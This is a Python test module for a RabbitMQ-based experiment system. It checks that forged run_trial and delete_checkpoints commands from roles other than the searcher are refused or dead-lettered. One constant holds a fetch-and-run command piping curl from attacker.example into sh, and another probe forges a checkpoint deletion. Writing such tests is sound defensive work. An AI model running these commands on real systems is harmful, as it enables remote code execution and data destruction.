"""Hostile commands: run_trial and delete_checkpoints forged by every role but the
searcher's, on RabbitMQ with deploy/rabbitmq's users.

The review found that the operator could write the commands exchange with every work key
and that workers ran whatever reached them: a forged ``DeleteCheckpoints`` deleted
``/home/data/<uuid>``. Now no role but the searcher may write the commands exchange (the
broker refuses it), a worker runs a command only if the broker-validated ``user_id`` is
the searcher's (anything else reaching it is dead-lettered), and ``rung dlq requeue`` of a
genuine dead run_trial goes back through the searcher, which sends it again from its log.
"""

from __future__ import annotations

import asyncio
import contextlib
import time
from collections.abc import AsyncIterator, Iterator
from pathlib import Path

import aio_pika
import aiormq
import pytest

from rung.broker import RabbitBroker
from rung.broker.deadletters import DeadLetter, peek, requeue
from rung.broker.port import Delivery
from rung.broker.schemas import (
    DeleteCheckpoints,
    Envelope,
    RunTrial,
    decode,
    encode,
)
from rung.searcher.client import SearcherClient
from rung.searcher.service.service import SearcherService
from rung.worker.agent import Worker
from tests.hostile.conftest import HostileTally
from tests.least_privilege import LeastPrivilege, least_privilege_vhost
from tests.support import wait_for, wait_for_async

pytestmark = [pytest.mark.rabbitmq, pytest.mark.timeout(300)]
CLASS = "forged commands"
EXP = "exp-0123abcd"
UUID = "00000000-0000-4000-8000-00000000000a"
EVIL = ["bash", "-c", "curl -s https://attacker.example/x | sh"]
SINGLE = {
    "entrypoint": "python3 train.py",
    "searcher": {"name": "single", "metric": "loss", "max_length": 3},
}


@pytest.fixture(scope="module")
def lp() -> Iterator[LeastPrivilege]:
    yield from least_privilege_vhost()


@contextlib.asynccontextmanager
async def _as(lp: LeastPrivilege, user: str) -> AsyncIterator[RabbitBroker]:
    broker = RabbitBroker(lp.url(user), lp.topology, name=f"hostile-cmd-{user}")
    await broker.start()
    try:
        yield broker
    finally:
        await broker.close()


def _guest_url(lp: LeastPrivilege) -> str:
    """guest, with every right in the test vhost: a user that may publish anything."""
    return lp.url("guest").replace(f":{lp.password}@", ":guest@", 1)


def _commands(message_id: str, root: Path) -> dict[str, bytes]:
    run_trial = RunTrial(
        experiment_id=EXP,
        trial_id=1,
        request_id="r-1",
        attempt=1,
        length=1,
        hparams={},
        trial_seed=0,
        context_hash="0" * 64,
        entrypoint=EVIL,
        slots=1,
        checkpoint_root=str(root / EXP),
        max_restarts=0,
    )
    # The review's probe: a free-text experiment id naming any directory's last part.
    delete = DeleteCheckpoints(experiment_id="data", checkpoint_root=str(root), uuids=[UUID])
    return {
        f"{message_id}-run": encode(
            Envelope(message_id=f"{message_id}-run", experiment_id=EXP, body=run_trial)
        ),
        f"{message_id}-delete": encode(
            Envelope(message_id=f"{message_id}-delete", experiment_id="data", body=delete)
        ),
    }


async def _publish_and_close(
    channel: aio_pika.abc.AbstractChannel,
    exchange: aio_pika.abc.AbstractExchange,
    message: aio_pika.Message,
    key: str,
) -> None:
    await exchange.publish(message, key)
    await asyncio.wait_for(channel.close(), 10)  # a refusal may come after the call


async def test_no_role_but_the_searcher_may_publish_commands(
    lp: LeastPrivilege, hostile: HostileTally, tmp_path: Path
) -> None:
    t = lp.topology
    for role, user in (
        ("operator", lp.user("operator")),
        ("client", lp.user("client")),
        ("worker", lp.workers[0]),
        ("pool worker", lp.user("worker")),
    ):
        for message_id, body in _commands(f"by-{role}", tmp_path / "home" / "data").items():
            for key in (t.WORK_KEY, t.work_key(2)):
                started = time.monotonic()
                connection = await aio_pika.connect(lp.url(user))
                try:
                    channel = await connection.channel(publisher_confirms=True)
                    exchange = await channel.get_exchange(t.commands_exchange, ensure=False)
                    message = aio_pika.Message(body, message_id=message_id, user_id=user)
                    with pytest.raises(aiormq.exceptions.AMQPError) as refused:
                        await _publish_and_close(channel, exchange, message, key)
                finally:
                    await connection.close()
                assert "ACCESS_REFUSED" in str(refused.value)
                kind = message_id.rsplit("-", 1)[1]
                hostile.record(
                    CLASS,
                    f"{role} publishes a {kind} command with key {key}",
                    "refused",
                    time.monotonic() - started,
                )


async def _dead(operator: RabbitBroker, lp: LeastPrivilege, ids: set[str]) -> dict[str, DeadLetter]:
    found: dict[str, DeadLetter] = {}

    async def all_there() -> bool:
        letters = await peek(operator, searcher_user=lp.user("searcher"), quiet_s=0.2)
        found.clear()
        found.update({x.message_id: x for x in letters if x.message_id in ids})
        return set(found) == ids

    await wait_for_async(all_there, 30, f"dead letters {sorted(ids)}")
    return found


async def test_a_command_from_another_user_that_reaches_a_worker_is_dead_lettered(
    lp: LeastPrivilege, hostile: HostileTally, tmp_path: Path
) -> None:
    """guest has every right in the test vhost (as a misconfigured broker might give a
    user): its run_trial and delete_checkpoints reach a real worker, which runs neither."""
    t = lp.topology
    data = tmp_path / "home" / "data"
    (data / UUID).mkdir(parents=True)
    forged = _commands("from-guest", data.parent / "data")
    stop = asyncio.Event()
    async with _as(lp, lp.workers[0]) as worker_broker:
        worker = Worker(
            worker_broker,
            worker_id=f"{lp.workers[0]}.forged",
            slots=1,
            work_dir=tmp_path / "worker",
            searcher_user=lp.user("searcher"),
        )
        task = asyncio.create_task(worker.run(stop))
        try:
            await wait_for(lambda: bool(worker._work), 20, "the worker taking work")
            guest = RabbitBroker(_guest_url(lp), t, name="hostile-cmd-guest")
            await guest.start()
            started = time.monotonic()
            try:
                for message_id, body in forged.items():
                    await guest.publish(
                        t.commands_exchange, t.WORK_KEY, body, message_id=message_id
                    )
            finally:
                await guest.close()
            async with _as(lp, lp.user("operator")) as operator:
                letters = await _dead(operator, lp, set(forged))
            assert not worker.runs
            assert (data / UUID).is_dir()  # nothing deleted
        finally:
            stop.set()
            await asyncio.wait_for(task, 60)
    for message_id, letter in letters.items():
        assert (letter.moved_by, letter.sender, letter.queue) == ("broker", "guest", t.work_queue)
        kind = message_id.rsplit("-", 1)[1]
        hostile.record(
            CLASS,
            f"a {kind} command from a non-searcher user reaches a worker",
            "dead-lettered",
            time.monotonic() - started,
        )


async def test_a_genuine_dead_run_trial_comes_back_through_the_searcher(
    lp: LeastPrivilege, hostile: HostileTally, tmp_path: Path
) -> None:
    """A real searcher's run_trial, rejected by a worker, goes back with rung dlq requeue:
    the searcher sends it again from its log, as itself; a forged id is refused."""
    t = lp.topology
    stop = asyncio.Event()
    async with (
        _as(lp, lp.user("searcher")) as searcher_broker,
        _as(lp, lp.user("client")) as client_broker,
        _as(lp, lp.workers[1]) as worker,
    ):
        searcher = SearcherService(searcher_broker, tmp_path / "state")
        task = asyncio.create_task(searcher.run(stop))
        try:
            await asyncio.wait_for(searcher.ready.wait(), 20)
            context = tmp_path / "context"
            context.mkdir()
            (context / "train.py").write_text("pass\n")
            created = await SearcherClient(client_broker, timeout=60).create_experiment(
                SINGLE, context
            )
            experiment_id = str(created["experiment_id"])
            taken: list[Delivery] = []

            async def reject_once(delivery: Delivery) -> None:
                if not (delivery.message_id or "").startswith(f"{experiment_id}/"):
                    await delivery.ack()  # another test's leftovers
                    return
                taken.append(delivery)
                if len(taken) == 1:  # the worker cannot start it, once
                    await delivery.dead_letter("the context would not unpack")
                else:
                    await delivery.ack()

            subscription = await worker.subscribe(t.work_queue, reject_once, prefetch=1)
            await wait_for(lambda: len(taken) == 1, 30, "the searcher's run_trial")
            message_id = taken[0].message_id or ""
            async with _as(lp, lp.user("operator")) as operator:
                letter = (await _dead(operator, lp, {message_id}))[message_id]
                assert (letter.moved_by, letter.sender) == ("broker", lp.user("searcher"))
                await requeue(operator, message_id, searcher_user=lp.user("searcher"))
            await wait_for(lambda: len(taken) == 2, 30, "the run_trial back in the work queue")
            await subscription.cancel()
            first, again = taken
            assert again.user_id == lp.user("searcher")  # sent by the searcher, as itself
            assert again.message_id == message_id
            assert decode(again.body).body == decode(first.body).body
            assert isinstance(decode(again.body).body, RunTrial)
        finally:
            stop.set()
            await asyncio.wait_for(task, 60)
